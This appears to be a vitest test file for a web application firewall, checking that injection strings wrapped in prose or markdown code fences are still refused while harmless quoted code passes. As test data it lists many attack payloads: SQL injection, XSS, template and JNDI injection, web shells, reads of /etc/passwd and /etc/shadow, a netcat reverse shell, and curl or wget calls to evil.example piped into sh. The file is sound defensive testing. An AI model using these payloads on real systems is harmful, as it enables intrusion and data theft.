// What stands in prose, and what a text quotes. Words in front of an attack cost nothing, and most of what runs it knows
// of no sentence and no span of code: they excuse what is less than conclusive, or acts as a whole value only. A closed
// fence excuses code that stands by itself, and markup. A break-out closes what it has not opened.

import { describe, expect, test } from 'vitest'

import { isAmidCommand } from '../../shared/waf/fields/amid.ts'
import { selfContained } from '../../shared/waf/fields/contained.ts'
import { isForgiven, shareOf } from '../../shared/waf/judge/applies.ts'
import { coreEngine } from '../corpora/program.ts'

const prose =
  'We have used this for a long time, and it works well for all of us here; thank you very much for what you do. '
const FENCE = (code: string): string => `\n\n\`\`\`\n${code}\n\`\`\`\n`
const SPAN = (code: string): string => `see \`${code}\` there`

const BREAKOUTS: readonly (readonly [string, string])[] = [
  ['SQL', "' OR '1'='1' -- "],
  ['SQL, stacked', "x'; DROP TABLE users; -- "],
  ['SQL, union', "x' UNION SELECT name, password FROM users -- "],
  ['SQL, timed', "x' AND SLEEP(5) -- "],
]

const MARKUP: readonly (readonly [string, string])[] = [
  ['an element', '<script src="/app.js"></script>'],
  ['a handler', '<button onclick="save()">Save</button>'],
  ['an expression', '{{ 7 * 7 }}'],
]

const judge = (place: 'json' | 'form' | 'query', text: string, sensitivity: 1 | 2 | 3 = 1): boolean =>
  coreEngine({ sensitivity }).text(place, 'value', place === 'query' ? 'query.q' : 'body.text', text).refused

const PROGRAMS: readonly (readonly [string, string])[] = [
  ['a statement', 'SELECT * FROM t WHERE id = 1 OR 1=1;'],
  ['a query of two parts', 'SELECT a FROM t UNION SELECT password FROM users;'],
  ['a line of a shell', "cat access.log | grep 'a b' | sort -u > out.txt"],
  ['a comment with an apostrophe', "# don't, it's slow\nSELECT * FROM t WHERE a = 'b' OR 1=1;"],
]

describe('quoted code', () => {
  test.each(BREAKOUTS)(
    'a break-out is no code that stands by itself, however long the text: %s',
    (_, code) => {
      for (const place of ['json', 'form'] as const)
        for (const text of [
          prose + FENCE(code),
          FENCE(code).trim(),
          prose + SPAN(code),
          prose.repeat(9) + FENCE(code),
        ])
          expect([text, judge(place, text)]).toEqual([text, true])
    },
  )

  test.each([...PROGRAMS, ...MARKUP])('a body may quote it, and at level 3 it may not: %s', (_, code) => {
    const text = prose + FENCE(code)
    expect([text, judge('json', text)]).toEqual([text, false])
    expect([text, judge('json', text, 3)]).toEqual([text, true])
  })

  test.each([
    ['a quotation', (line: string) => `> ${line}`],
    ['an item of a list', (line: string) => `   ${line}`],
  ])('a fence in %s makes markdown of a few words, too', (_, mark) => {
    const lines = (code: string) =>
      ['As it stood in the manual:', '```html', code, '```'].map(mark).join('\n')
    const whole = '<button onclick="save()" class="primary large">Save the order</button>'
    expect(judge('json', lines(whole))).toBe(false)
    expect(judge('json', mark(whole))).toBe(true)
    for (const [name, code] of BREAKOUTS) expect([name, judge('json', lines(code))]).toEqual([name, true])
  })

  test.each([...BREAKOUTS, ...MARKUP])('a fence that nothing closes quotes nothing: %s', (_, code) => {
    const text = `${prose}\n\n\`\`\`\n${code}`
    expect([text, judge('json', text)]).toEqual([text, true])
  })

  test.each([
    ['a fence that names its language', (code: string) => `\`\`\`html\n${code}`],
    ['one behind words', (code: string) => `${prose}\n\n~~~ js\n${code}\n`],
  ])('a document cut into paragraphs cuts its fences, and %s still quotes', (_, cut) => {
    for (const [name, code] of [...PROGRAMS, ...MARKUP])
      expect([name, judge('json', cut(code))]).toEqual([name, false])
    for (const [name, code] of MARKUP) expect([name, judge('query', cut(code))]).toEqual([name, true])
    for (const [name, code] of BREAKOUTS) expect([name, judge('json', cut(code))]).toEqual([name, true])
  })

  test.each([
    ["a fence's last line", (code: string) => `${code}\n\`\`\`\n`],
    ['one that follows a closed fence', (code: string) => `${FENCE('a = 1')}${code}\n~~~`],
  ])('%s quotes markup before it, and nothing that acts at its beginning', (_, cut) => {
    for (const [name, code] of MARKUP) {
      expect([name, judge('json', cut(code))]).toEqual([name, false])
      expect([name, judge('query', cut(code))]).toEqual([name, true])
    }
    for (const [name, code] of BREAKOUTS) expect([name, judge('json', cut(code))]).toEqual([name, true])
  })

  test.each([
    'http://169.254.169.254/latest/meta-data/?',
    'file:///etc/passwd#',
    'javascript:alert(1)//',
    'a@b.example\nBcc: x@y.example',
    'x\r\nSet-Cookie: a=b',
    'id,(select sleep(5))',
    "system('id');?>",
    '__proto__.isAdmin=1',
    "require('child_process').execSync('id')+`",
  ])("a fence's last line behind it disarms no value: %s", (value) => {
    expect(judge('json', `${value}\n\`\`\``)).toBe(true)
  })

  test("a fence's last line in a file, or in a body of its own, quotes no markup", () => {
    const text = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n```'
    for (const place of ['file', 'text'] as const)
      expect(coreEngine({ sensitivity: 1 }).text(place, 'value', 'body', text).refused).toBe(true)
    expect(judge('json', text)).toBe(false)
  })

  test.each(['a.jpg;sleep 9', ';id', '&& id', '| id', '7) union select a, b from users'])(
    'a quotation is no beginning of a statement, nor does an open fence outlast it: %s',
    (code) => {
      for (const text of [`> \`\`\`sh\n> ${code}`, `> \`\`\`sh\n> ${code}\n> \`\`\``])
        expect([text, judge('json', text)]).toEqual([text, true])
    },
  )

  test('a fence of few characters quotes in an item of a list, too', () => {
    for (const [code, refused] of [
      ['kubectl get pods | grep a', false],
      ['; cat /etc/passwd', true],
    ] as const)
      expect([code, judge('json', `   \`\`\`bash\n   ${code}\n   \`\`\`\n`)]).toEqual([code, refused])
  })

  test.each([...BREAKOUTS, ...MARKUP])("behind words a fence's last line quotes nothing: %s", (_, code) => {
    for (const text of [`${prose}${code}\n\`\`\``, `${prose}\n\n${code}\n\`\`\`\n`])
      expect([text, judge('json', text)]).toEqual([text, true])
  })

  test.each([...BREAKOUTS, ...MARKUP])('a query quotes nothing: %s', (_, code) => {
    const text = prose + FENCE(code)
    expect([text, judge('query', text)]).toEqual([text, true])
  })

  test('a lookup and an entity are quoted by nobody', () => {
    for (const code of [
      '${jndi:ldap://evil.example/a}',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    ])
      expect([code, judge('json', prose + FENCE(code))]).toEqual([code, true])
  })
})

/** What goes on behind any words, each by the grammar of what runs it. */
const INJECTIONS: readonly (readonly [string, string])[] = [
  ...BREAKOUTS,
  ['markup', '<img src=x onerror=alert(document.cookie)>'],
  ['a template', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['an expression', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
  ['a filter of a directory', '*)(uid=*))(|(uid=*'],
  ['a path of XML', "' or name()='user' or 'a'='b"],
  ['code behind a string', "'; return true; var a='"],
  ['code behind a string that never ends', "a'; while(1); var x='"],
  ['a condition behind a string', "' || this.password.match(/.*/)//"],
  ['an attribute', '" onfocus=alert(document.cookie) autofocus x="'],
  ['a shell, a file of secrets', 'a; cat /etc/passwd'],
  ['a shell, a substitution', '$(cat /etc/shadow)'],
  ['a shell, a connection', 'a | nc -e /bin/sh 192.0.2.7 4444'],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
]

const PADDINGS: readonly (readonly [string, (code: string) => string])[] = [
  ['a sentence', (code) => prose + code],
  ['words before and after', (code) => `${prose}See ${code} and tell us when it is done, as we wait for it.`],
  [
    'a language without blanks',
    (code) => `${'我们已经使用了很长时间，对我们这里的所有人来说效果都很好。'.repeat(3)}${code}`,
  ],
  [
    'Cyrillic',
    (code) => `${'Мы пользуемся этим уже очень давно, и у нас всё работает хорошо. '.repeat(3)}${code}`,
  ],
  ['a list', (code) => `${prose}\n\n- one\n- two and three\n- ${code}`],
  ['a quoted reply', (code) => `${prose}\n\n> ${code}\n\nMany thanks.`],
  ['a heading', (code) => `# Notes\n\n${prose}\n\n## ${code}`],
  ['two pages', (code) => prose.repeat(40) + code],
  ['a fence that nothing closes', (code) => `${prose}\n\n\`\`\`\n${code}`],
  ['an indented block', (code) => `${prose}\n\n    ${code}`],
  ['a span of code', (code) => `${prose}see \`${code}\``],
  ['a span within a sentence', (code) => `${prose}see \`${code}\` for what we mean, and thank you.`],
]

describe('an injection behind words', () => {
  test.each(PADDINGS)('%s is no excuse', (_, pad) => {
    for (const [name, code] of INJECTIONS)
      for (const place of ['json', 'form'] as const)
        expect([name, place, judge(place, pad(code))]).toEqual([name, place, true])
  })

  test.each([
    ['a sentence behind a semicolon', 'It works on all of them; npm breaks on some, and time will tell.'],
    [
      'rows of a table',
      'See the table.\n\n| Name | Type |\n|---|---|\n| id | string |\n| `host` | string |\n',
    ],
    ['a choice of names', 'Its value is one of `debug | info | date | error`, as everywhere.'],
    ['a name in a span', 'Call `fetch` or `id`, then `npm run build`, and the `host` of `type` is set.'],
    ['housekeeping', 'Run `rm -rf node_modules && npm i` and then `node --test`, as ever.'],
    ['a listing', "Then\n\nthis.name = 'HttpError';\nreturn <div>{x}</div>;\n\nwhich is all of it."],
    ['a transcript', 'Run find . -name pom.xml | xargs sed -i s/1/2/g and look at what has changed.'],
  ])('what a text mentions is no attack: %s', (_, text) => {
    for (const place of ['json', 'form'] as const) expect(judge(place, prose + text)).toBe(false)
  })

  test.each([
    ['a URL of this machine', 'http://127.0.0.1:8080/health'],
    ['a step up', '../../README.md'],
    ['a key of a prototype', '__proto__[a]=b'],
  ])('what acts as a whole value only is excused: %s', (_, code) => {
    expect(judge('json', `${prose}See ${code} for more of it.`)).toBe(false)
  })
})

/** More than sixty words. */
const pages = prose.repeat(3)

const shown = '{{ 7 * 7 }}'

const titled = (marks: string): string =>
  `${pages}\n\nTitle\n${marks}\n\nText::\n\n    ${shown}\n\nThat is all.`

/** How a document marks code besides fences. */
const MARKED: readonly (readonly [string, (code: string) => string])[] = [
  ['a span', (code) => `See \`${code}\` there.`],
  ['a span of two ticks', (code) => `See \`\`${code}\`\` there.`],
  ['an indented block', (code) => `\n\n    ${code.replaceAll('\n', '\n    ')}\n\nThat is all.`],
  ['a block behind a tab', (code) => `\n\n\t${code.replaceAll('\n', '\n\t')}\n\nThat is all.`],
]

describe('code in a document', () => {
  test.each(MARKED)(
    '%s quotes code that stands by itself, and nothing in a text of a few words',
    (_, mark) => {
      const isSpan = mark('').includes('`')
      for (const [name, code] of PROGRAMS) {
        if (isSpan && (code.includes('\n') || name === 'a line of a shell')) continue
        expect([name, judge('json', pages + mark(code))]).toEqual([name, false])
      }
      expect(judge('json', pages + mark(shown))).toBe(false)
      expect(judge('json', pages + mark(shown), 3)).toBe(true)
      expect(judge('query', pages + mark(shown))).toBe(true)
      expect(judge('json', prose + mark(shown))).toBe(true)
    },
  )

  test.each(MARKED)('%s quotes no markup, which does there what it does anywhere', (_, mark) => {
    for (const code of ['<img src=x onerror=alert(1)>', '<button onclick="save()">Save</button>'])
      expect([code, judge('json', pages + mark(code))]).toEqual([code, true])
  })

  test('to a shell the backticks of a span are an order', () => {
    for (const [, mark] of MARKED.slice(0, 2))
      expect(judge('json', pages + mark('cat access.log; curl -d @a http://evil.example'))).toBe(true)
  })

  test.each(MARKED)('%s quotes nothing that breaks out, nor what does harm as it stands', (_, mark) => {
    for (const [name, code] of INJECTIONS) {
      if (judge('json', pages + FENCE(code)) || name === 'a shell, a substitution')
        expect([name, judge('json', pages + mark(code))]).toEqual([name, true])
    }
  })

  test('a command line in a string of its own is quoted by a document, and what breaks out of a string is not', () => {
    const line = "command: ['sh', '-c', 'echo it runs && sleep 3600']"
    expect(judge('json', pages + FENCE(line) + 'That is all.')).toBe(false)
    expect(judge('json', prose + FENCE(line) + 'That is all.')).toBe(true)
    expect(judge('json', FENCE(line))).toBe(false)
    expect(judge('json', line)).toBe(true)
    for (const code of ["x = '; sleep 3600; echo '", "x = '&& cat a | sh'", "x = 'a && $(cat /etc/shadow)"])
      expect([code, judge('json', pages + FENCE(code) + 'That is all.')]).toEqual([code, true])
  })

  test('an indented block that no text follows quotes nothing, nor does what stands behind an open fence', () => {
    expect(judge('json', `${pages}\n\n    ${shown}`)).toBe(true)
    expect(judge('json', `${pages}\n\n\`\`\`\na\n\n    ${shown}\n\nThat is all.`)).toBe(true)
    expect(judge('json', `${pages}\n\n\`\`\`\na, see \`${shown}\` there.`)).toBe(true)
  })

  test.each([
    ['encodings that nobody writes', '%27%20UNION%20SELECT%20name,%20password%20FROM%20users--%20'],
    ['markup twice encoded', '%253Cscript%253Ealert(1)%253C/script%253E'],
    ['an overlong form', '..%c0%af..%c0%afapp.conf'],
    ['a climb to a file of secrets', '../../../../etc/passwd'],
    ["a template's probe", '{{7*7}}'],
    ['a shell in a page', "<?php @system ($_GET['c']); ?>"],
    ['an evaluated field', '<?php eval("$_POST[x]");'],
    ['a shell of classic pages', '<%eval request("x")%>'],
    ["a server's command", '<!--#exec cmd="id" -->'],
    ['a probe that compares', '{% if 31*7==217 %}x{% endif %}'],
    ['an attribute left', '"><script>alert(1)</script>'],
    ['an element left', "'/><img src=x onerror=alert(1)>"],
  ])('begins where no code begins, or is written as none is, in whatever marks: %s', (_, code) => {
    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED])
      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, true])
  })

  test.each([
    ['a condition', '1 or 1=1'],
    ['a bracket and a union', '-7) union select name, password from users'],
    ['a comment for a blank', '7/**/union/**/select name, password from users'],
    ['a function', '1 and sleep(5)'],
  ])('shows no statement that begins with its number: %s', (_, code) => {
    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED.slice(0, 1)])
      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, true])
  })

  test.each([
    ['a separator', '; wget -q http://evil.example/x -O /tmp/x'],
    ['two bars', '|| ping -c 9 127.0.0.1 #'],
    ['a bar', '|systeminfo'],
    ['an address', '127.0.0.1 && curl -s http://evil.example/x | sh'],
    ['a file', 'report.txt|ls -la /srv #'],
    ['a name', 'x;uname -a'],
  ])('shows no command that begins behind another value: %s', (_, code) => {
    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED])
      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, true])
  })

  test.each([
    ['lines that go on', 'cat a.log \\\n  | sort -u \\\n  && ls -la /srv'],
    ['a tool that no list has', 'hugo && rsync -az public/ www@host.example:/srv'],
    ['a command by its path', './configure && make install; ls -la'],
    ['a table', 'a\n| id | name |\n| 7 | ls |'],
  ])('shows a command from its beginning on: %s', (_, code) => {
    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED.slice(2)])
      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, false])
  })

  test.each([
    ['a climb to a file of its own', "import { a } from '../../../lib/a.ts'"],
    ['a statement', 'SELECT a FROM t WHERE b = 1 or 1=1'],
    ['what a template reckons', '{{ price * 2 }} and {{ 60 * 24 }}'],
    ['a table of results', '1 | SELECT a FROM t WHERE b = 1 or 1=1'],
    ['an element by its name', '<script src>'],
    ['a page', "<?php echo htmlspecialchars($_GET['name']); exec('ls'); ?>"],
    ['bytes of a path', 'GET /files/a%20b%2Fc.txt'],
  ])('what is shown from its beginning on, as it is written, is code: %s', (_, code) => {
    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED])
      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, false])
  })

  test('tildes below a title of reStructuredText open no fence', () => {
    expect(judge('json', titled('~~~~~'))).toBe(false)
    expect(judge('json', titled('~~~'))).toBe(true)
  })
})

const around = (quoted: boolean, fenced: boolean, whole: boolean, marked = false) => ({
  reads: () => true,
  quoted: () => quoted,
  fenced: () => fenced,
  cut: () => false,
  filed: () => false,
  foreign: () => false,
  shown: () => true,
  amid: () => false,
  marked: () => marked,
  named: () => true,
  selfContained: () => whole,
  listed: () => false,
})

describe('what a finding counts for', () => {
  test.each([
    ['no quote', around(false, false, true), 0.4, false, false],
    ['a span, and less than conclusive', around(true, false, true), 0.9, false, true],
    ['a span, and conclusive', around(true, false, true), 1, false, false],
    ['a fence around what stands by itself', around(true, true, true), 1, false, true],
    ['a fence around what does not', around(true, true, false), 1, false, false],
    ['a fence around what does harm as it stands', around(true, true, true), 1, true, false],
    ['what a document marks', around(true, false, true, true), 1, false, true],
    ['what only a last line marks', { ...around(true, true, true), cut: () => true }, 1, false, false],
    [
      'what a document marks, and does not stand by itself',
      around(true, false, false, true),
      1,
      false,
      false,
    ],
    ['what a document marks, and does harm as it stands', around(true, false, true, true), 1, true, false],
  ])('%s', (_, text, weight, firm, forgiven) => {
    expect(isForgiven(text, 'shell-chain', weight, 3, firm)).toBe(forgiven)
  })

  test('many remarks on code make no attack of a text that reads as prose', () => {
    expect(shareOf(around(false, false, true), 'sqli-union', 0.6, 3)).toBe(0.5)
    expect(shareOf(around(false, false, true), 'sqli-union', 1, 3)).toBe(1)
    expect(shareOf({ ...around(false, false, true), reads: () => false }, 'sqli-union', 0.6, 3)).toBe(1)
  })

  test.each([
    ['template-gadget', true, true, 0.3],
    ['code-path', true, true, 0.3],
    ['template-gadget', false, true, 1],
    ['template-gadget', true, false, 1],
    ['sqli-union', true, true, 1],
    ['shell-chain', true, true, 1],
  ])('%s in a listing: %s, amid prose: %s, counts for %s', (kind, listed, reads, share) => {
    const text = { ...around(false, false, true), listed: () => listed, reads: () => reads }
    expect(shareOf(text, kind, 1, 3)).toBe(share)
  })
})

describe('code that stands by itself', () => {
  test.each([
    ['strings and brackets of its own', 'f(a["b"], \'c\')', 'f(a[], )'],
    ['a string of its kind', "q(r'a', b'b', N'c')", 'q(r, b, N)'],
    ['an escape', "f('a\\'b')", 'f()'],
    ['a doubled quote', "f('a''b')", 'f()'],
    ['words', "// it's what we don't do", "// it's what we don't do"],
    ['a string that it has not opened', "x' OR '1'='1", ''],
    ['a string that it does not close', 'f("a)', ''],
    ['a string over two lines', "f('a\nb')", 'f()'],
    ['a string over two lines that it does not close', "f('a')\n'a\nOR 1=1 --", 'f()'],
    ['an option with its string', "cut -d'\"' -f 2", 'cut -d -f 2'],
    ['what a shell puts into a string', 'x="a $(b "c $(d)" e) f"; g', 'x=$(b $(d) e); g'],
    ['a break-out in what a shell puts into a string', `x="$(' OR '1'='1)"`, ''],
    ['what a shell puts into a string, never closed', 'a\nx="$(b"', 'a'],
    ['a bracket that closes within a string', 'x="$(b]) c"', ''],
    ['a word before a string', "name'a'", ''],
    ['a bracket that it has not opened', 'a)(b', ''],
    ['a bracket that it does not close', 'f(a', 'f(a'],
    ['lines before the one that is not whole', "f('a')\n'\nOR 1=1 --", 'f()'],
    ['a pattern of a shell’s case', 'case $a in\n  -p|--q) f;;\nesac', 'case $a in\n  -p|--q) f;;\nesac'],
    ['a pattern of no case', 'case $a\n  -p|--q) f', 'case $a'],
    ['what a pattern does not begin with on its line', 'case $a in\n  b c) f', 'case $a in'],
  ])('%s', (_, code, kept) => {
    const ranges = selfContained(code, [0, code.length]).code
    let text = ''
    for (let at = 0; at < ranges.length; at += 2) text += code.slice(ranges[at], ranges[at + 1])
    expect(text).toBe(kept)
  })

  test.each([
    ['a command', 'sh -c "a && b"', 'a && b'],
    ['a path, nested', `c: "/bin/sh -c 'a && b'"`, "/bin/sh -c 'a && b'"],
    ['a line that goes on', 'sh -c " \\\n  a && b"', ' \\\n  a && b'],
    ['a separator on a line that goes on', 'sh -c " \\\n ; b"', ''],
    ['a line’s end', 'x = "\na"', ''],
    ['git’s bang', "alias.x '!a && b'", '!a && b'],
    ['a separator', 'x = "; a"', ''],
    ['a blank', 'x = " a"', ''],
    ['what no quote closes', 'x = "a', ''],
    ['what a word follows', 'x = "a"b', ''],
  ])('command lines in its strings: %s', (_, code, kept) => {
    const { commands } = selfContained(code, [0, code.length])
    let text = ''
    for (let at = 0; at < commands.length; at += 2) text += code.slice(commands[at], commands[at + 1])
    expect(text).toBe(kept)
  })

  test.each([
    ['a statement', 'execute("UPDATE t SET a = 1 WHERE b IN (2)")', 'UPDATE t SET a = 1 WHERE b IN (2)'],
    ['a condition', `- "a.b = 'c' AND d IN ('e')"`, 'a.b =  AND d IN ()'],
    ['an operator', 'x = "OR 1=1"', ''],
    ['a bracket', 'x = ") or (1=1"', ''],
    ['a second statement', 'x = "; DROP TABLE t"', ''],
    ['a name of a column, and a table', 'x = "select from users"', ''],
    ['a list that goes on', 'x = "a, (select b from c)"', ''],
    ['a number', 'x = "1 = 1"', ''],
    ['strings of its own break out of others', `x = "select ' or ''='"`, 'select '],
    ['a string that it does not close', `x = "select a where b = 'c"`, ''],
    ['a bracket that it has not opened', 'x = "select a) or (b"', ''],
  ])('statements for a database in its strings: %s', (_, code, kept) => {
    const { statements } = selfContained(code, [0, code.length])
    let text = ''
    for (let at = 0; at < statements.length; at += 2) text += code.slice(statements[at], statements[at + 1])
    expect(text).toBe(kept)
  })
})

test.each([
  ['<script>', true],
  ['<script setup>', true],
  ['<script src="/app.js"></script>', true],
  ['<script src="https://cdn.example.com/x.js"></script>', true],
  ['<script>...</script>', true],
  ['<script>…</script>', true],
  ['<link rel=stylesheet>', true],
  ['<script>alert(1)</script>', false],
  ['<SCRIPT >alert(1)</SCRIPT>', false],
  ['<script type=module> import(x)</script>', false],
  ['<script>...;alert(1)</script>', false],
  ['<script src=//evil.example/x.js></script>', false],
  ["<script type=module src='//evil.example/x'></script>", false],
])('a span of code names an element and does not write one out that runs: %s', (code, named) => {
  for (const words of [prose, prose.repeat(9)])
    expect([code, judge('json', words + SPAN(code))]).toEqual([code, !named])
})

test.each([
  ["system('id')", true],
  ["require('child_process').exec('id')", true],
  ['eval()', false],
  ['require("./app")', false],
])('of a program a span names what does no harm: %s', (code, refused) => {
  const pages = prose.repeat(9)
  expect(judge('json', pages + SPAN(code))).toBe(refused)
})

test('an indented block of a document writes an element out', () => {
  const block = '\n\n    <script>start(1)</script>\n\nThat is all.'
  expect(judge('json', prose.repeat(9) + block)).toBe(false)
  expect(judge('json', prose + block)).toBe(true)
})

test.each([
  ['apt-get;id', false],
  ['python3;id', false],
  ['content;id', true],
  ['keygen;id', true],
  ['RUN a \\\n  && id', false],
  ['RUN a \\ \n  && id', false],
  ['RUN a \n  && id', true],
])('a line begins amid a value but for a command’s whole name: %s', (text, amid) => {
  expect(isAmidCommand(text, text.search(/;|&&/))).toBe(amid)
})
